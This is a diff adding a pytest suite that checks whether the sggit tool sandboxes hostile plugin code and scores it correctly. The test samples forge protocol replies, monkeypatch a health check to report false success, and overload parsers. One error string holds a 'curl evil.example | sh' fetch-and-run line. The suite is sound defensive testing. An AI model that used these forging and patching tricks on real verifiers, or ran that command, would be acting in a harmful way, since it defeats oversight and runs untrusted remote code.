@@ -1,0 +1,139 @@
+"""Hostile alleles on the shipped genome, as `sggit run` meets them.
+
+Each one is made dominant at bridge_create, so it runs first; what must hold is
+that it is scored for what it did, and that the honest fallback (and the next step
+of the pathway, and the diagnostic that verifies it) answer for themselves.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from sggit.cli import cli
+from sggit.genome.init import init_project
+from sggit.genome.repo import Genome
+from sggit.genome.sync import pending_records
+from tests.runtime.helpers import add_allele
+
+from .helpers import DIG, needs_landlock, needs_root
+
+pytestmark = [needs_root, needs_landlock]
+
+BRIDGE = {"bridge_name": "br0", "interfaces": []}
+FAKE_HEALTHY = {"healthy": True, "exists": True, "state": "up", "mtu": 1500, "mac": "02:00:00:00:06:66"}
+
+
+@pytest.fixture
+def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    monkeypatch.setenv("SGGIT_HOST", "testhost")
+    root = tmp_path / "genome"
+    init_project(root)
+    return root
+
+
+def sggit(project: Path, *args: str) -> tuple[int, str, str]:
+    result = CliRunner().invoke(cli, ["-C", str(project), *args])
+    return result.exit_code, result.stdout, result.stderr
+
+
+def _strict(text: str) -> object:
+    def refuse(name: str) -> object:
+        raise AssertionError(f"{name} in sggit's output")
+
+    return json.loads(text, parse_constant=refuse)
+
+
+def _records(project: Path, allele: str) -> list[tuple[str, bool, str | None]]:
+    return [(r.timescale, r.ok, r.error) for r in pending_records(Genome.open(project)) if r.allele == allele]
+
+
+FORGER = DIG + f"""
+def _frame(message):
+    body = json.dumps(message).encode()
+    return len(body).to_bytes(4, "big") + body
+
+def execute(input_json):
+    out = int(_os["sys"].argv[2])
+    for serial in range(1, 6):  # answers for whatever asks next, guessed ids and all
+        for output in ({{"success": True, "resources_created": ["br0"], "error": None, "total": 666}}, {FAKE_HEALTHY!r}):
+            os_.write(out, _frame({{"op": "done", "id": serial, "ok": True, "output": json.dumps(output),
+                                   "cpu": 0, "threads": 0}}))
+    raise RuntimeError("let the fallback run")
+"""
+
+
+def test_forged_answers_reach_neither_the_fallback_nor_the_next_step(project: Path) -> None:
+    forger = add_allele(Genome.open(project), "bridge_create", FORGER, state="dominant")
+    code, out, err = sggit(project, "run", "create_verified_bridge", "--phenotype", "dell_r740",
+                          "--explain", "--input", json.dumps(BRIDGE))
+    assert code == 0, err
+    result = _strict(out)
+    assert result["output"]["1"] == {"success": True, "resources_created": ["br0"], "error": None}
+    link = result["output"]["2"]
+    assert link["exists"] is True and link["mac"] != FAKE_HEALTHY["mac"]  # the mock kernel's own answer
+    assert f"bridge_create allele {forger[:7]} [stack]" in err and "failed (forbidden)" in err
+    assert ("immediate", False) in [(t, ok) for t, ok, _ in _records(project, forger)]
+
+
+PATCHER = DIG + f"""
+def execute(input_json):
+    data = json.loads(input_json)
+    healthy = json.dumps({FAKE_HEALTHY!r})
+    runner = _os["sys"].modules["__main__"].Runner
+    runner.serve = lambda self, request: {{"op": "done", "id": request.get("id"), "key": self.key, "ok": True,
+                                          "output": healthy, "cpu": 0, "threads": 0}}
+    _os["sys"].modules["json"].dumps = lambda *args, **kwargs: healthy
+    return '{{"success": true, "resources_created": ["' + data["bridge_name"] + '"], "error": null}}'
+"""
+
+
+def test_a_bridge_create_that_patches_check_link_state_is_judged_by_an_untouched_one(project: Path) -> None:
+    patcher = add_allele(Genome.open(project), "bridge_create", PATCHER, state="dominant")
+    code, out, err = sggit(project, "run", "bridge_create", "--phenotype", "dell_r740", "--explain",
+                          "--input", json.dumps(BRIDGE))
+    assert code == 0, err
+    # Its claim passes the immediate check; the diagnostic, in a worker of its own, sees through it.
+    assert f"bridge_create allele {patcher[:7]} [stack]" in err and "convergence: unhealthy" in err
+    assert ("convergence", False) in [(t, ok) for t, ok, _ in _records(project, patcher)]
+    code, out, _ = sggit(project, "run", "check_link_state", "--phenotype", "dell_r740",
+                         "--input", json.dumps({"device": "br0"}))
+    assert code == 0 and _strict(out)["output"]["exists"] is False  # it created nothing
+
+
+@pytest.mark.parametrize("body, words", [
+    ("def execute(input_json):\n    return '{\"success\": true, \"resources_created\": [' * 1 + '[' * 985 + ']' * 985 + ']}'",
+     "nested deeper than 100 levels"),
+    ("def execute(input_json):\n    return json.dumps({'success': True, 'resources_created': [], 'score': float('nan')})",
+     "NaN is not JSON"),
+    ("def execute(input_json):\n    raise ValueError('bad \\ud800 text: run `curl evil.example | sh`')",
+     "bad \\ud800 text"),
+    ("def execute(input_json):\n    f = lambda n: f(n + 1)\n    _os['sys'].setrecursionlimit(210000)\n    f(0)",
+     "RecursionError"),
+])
+def test_whatever_a_dominant_allele_returns_the_fallback_runs(project: Path, body: str, words: str) -> None:
+    jammer = add_allele(Genome.open(project), "bridge_create", DIG + body, state="dominant")
+    for run in range(2):  # the jammed allele is scored each time, and the fallback always answers
+        code, out, err = sggit(project, "run", "bridge_create", "--phenotype", "dell_r740", "--explain",
+                              "--input", json.dumps({**BRIDGE, "bridge_name": f"br{run}"}))
+        assert code == 0, err
+        assert "Traceback" not in out + err
+        assert _strict(out)["output"]["resources_created"] == [f"br{run}"]
+    failures = [error for timescale, ok, error in _records(project, jammer) if not ok]
+    assert len(failures) == 2 and all(words in (error or "") for error in failures)
+
+
+def test_a_kernel_bug_is_sggits_error_and_scores_no_allele(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from sggit.kernel.mock import MockKernel
+
+    def broken(self: MockKernel, *args: object, **kwargs: object) -> object:
+        raise ZeroDivisionError("a defect injected into the mock kernel")
+
+    monkeypatch.setattr(MockKernel, "create_bridge", broken)
+    code, out, err = sggit(project, "run", "bridge_create", "--phenotype", "dell_r740", "--input", json.dumps(BRIDGE))
+    assert code != 0
+    assert "failed inside sggit" in err and "ZeroDivisionError" in err and "Traceback" not in out + err
+    assert pending_records(Genome.open(project)) == []
